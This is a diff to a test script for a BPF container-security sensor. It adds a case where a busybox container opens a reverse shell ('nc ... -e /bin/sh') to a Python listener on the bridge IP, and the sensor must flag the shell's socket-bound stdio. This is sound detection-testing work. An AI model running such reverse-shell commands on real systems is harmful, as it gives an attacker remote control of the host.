@@ -5,7 +5,9 @@
 # bpf back end and prints every event. Inside a busybox container the test runs an unexpected
 # binary, opens a listening TCP port (nc -l), connects to a listener on the bridge IP, sends a DNS
 # query to a UDP server on the bridge IP, writes a file and then executes it; each must appear with
-# the right container id and fields. A host process must be attributed to the host, and runc's own
+# the right container id and fields. A reverse shell (busybox nc -e /bin/sh to a listener on the
+# bridge IP) must show an exec of /bin/sh whose fds 0 and 1 are sockets connected to that
+# listener. A host process must be attributed to the host, and runc's own
 # setup exec must be flagged. Everything is removed on exit, whatever happens.
 set -u
 cd "$(dirname "$0")/../.."
@@ -15,8 +17,9 @@ TOOLS=${GARRISON_TOOLS_DIR:-$PWD/build/san/tools}
 HARNESS=$PWD/tests/tools/dockerd-harness.sh
 PY=/usr/bin/python3
 [ -x "$PY" ] || PY=$(command -v python3)
-TCP_PORT=28910
-NC_PORT=28911
+TCP_PORT=28540
+NC_PORT=28541
+RS_PORT=28542
 
 skip() { echo "sensor_bpf: skipped: $*"; t_done; exit 0; }
 [ "$(id -u)" -eq 0 ] || skip "needs root (loads BPF programs)"
@@ -30,7 +33,7 @@ if [ ! -x "$TOOLS/sensor_dump" ]; then
 	exit 1
 fi
 
-D=$(mktemp -d /tmp/h6-sb.XXXXXX)
+D=$(mktemp -d /tmp/h3-sb.XXXXXX)
 OUT=$D/events.jsonl
 DUMP_PID=
 cleanup() {
@@ -70,16 +73,35 @@ fi
 ok "sensor_dump loads the BPF programs and runs"
 
 # ---- the host side: a TCP listener and a DNS server on the bridge IP --------------------------
-"$PY" - "$BR_IP" "$TCP_PORT" "$D/dns.query" >"$D/servers.log" 2>&1 <<'PYEOF' &
+"$PY" - "$BR_IP" "$TCP_PORT" "$D/dns.query" "$RS_PORT" "$D/revshell.out" >"$D/servers.log" 2>&1 <<'PYEOF' &
 import socket, sys, threading
-ip, port, qfile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+ip, port, qfile, rsport, rsfile = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
 t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 t.bind((ip, port)); t.listen(8)
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((ip, 53))
+r = socket.socket(); r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+r.bind((ip, rsport)); r.listen(2)
 def tcp():
     while True:
         c, _ = t.accept(); c.close()
+def revshell():
+    # The attacker's side: drive the shell that connected back, keep what it printed.
+    while True:
+        c, _ = r.accept()
+        c.settimeout(5)
+        c.sendall(b"echo h3-revshell-$((6*7))\nexit\n")
+        out = b""
+        try:
+            while True:
+                d = c.recv(4096)
+                if not d: break
+                out += d
+        except OSError:
+            pass
+        c.close()
+        with open(rsfile, "ab") as f: f.write(out)
 threading.Thread(target=tcp, daemon=True).start()
+threading.Thread(target=revshell, daemon=True).start()
 print("ready", flush=True)
 while True:
     data, peer = u.recvfrom(2048)
@@ -109,6 +131,8 @@ dk exec "$CID" nc -w 3 "$BR_IP" "$TCP_PORT" </dev/null
 dk exec "$CID" nslookup h6-probe.example.test "$BR_IP" >/dev/null 2>&1
 # busybox picks its applet from argv[0]'s base name: the copy is called echo.
 dk exec "$CID" sh -c 'mkdir /tmp/drop && cp /bin/busybox /tmp/drop/echo && chmod 755 /tmp/drop/echo && /tmp/drop/echo dropped-ran' >"$D/dropped.out"
+# A reverse shell: busybox nc connects to the bridge and execs /bin/sh on the connection.
+dk exec "$CID" nc "$BR_IP" "$RS_PORT" -e /bin/sh </dev/null
 # A host process, with a marker in its argv.
 sh -c 'exec /bin/echo h6-host-marker' >/dev/null
 
@@ -140,6 +164,13 @@ check "the written file is executed: exec /tmp/drop/echo, changed after the cont
 	wait_until 10 has "$IN and .type == \"exec\" and .filename == \"/tmp/drop/echo\" and .argv == [\"/tmp/drop/echo\",\"dropped-ran\"] and .exe_ctime >= $START_S"
 check "the image's /bin/id was not changed after the container started" \
 	has "$IN and .type == \"exec\" and .filename == \"/bin/id\" and .exe_ctime < $START_S and .exe_ino > 0"
+check "the reverse shell ran (the listener got its output)" \
+	wait_until 10 grep -q h3-revshell-42 "$D/revshell.out"
+SOCK="(.type == \"sock\" and .family == \"ipv4\" and .connected == true and .addr == \"$BR_IP\" and .port == $RS_PORT)"
+check "reverse shell: exec of /bin/sh whose fds 0 and 1 are sockets connected to $BR_IP:$RS_PORT" \
+	wait_until 10 has "$IN and .type == \"exec\" and .filename == \"/bin/sh\" and (.stdio[0] | $SOCK) and (.stdio[1] | $SOCK)"
+check "an ordinary exec in the container has no socket on fds 0-2 (docker exec gives pipes or /dev/null)" \
+	has "$IN and .type == \"exec\" and .filename == \"/bin/id\" and ([.stdio[] | .type] | all(. != \"sock\" and . != \"\"))"
 check "a host process is attributed to the host" \
 	wait_until 10 has "(.container == \"\") and .type == \"exec\" and .filename == \"/bin/echo\" and .argv == [\"/bin/echo\",\"h6-host-marker\"]"
 check "the dropped binary ran" grep -q dropped-ran "$D/dropped.out"
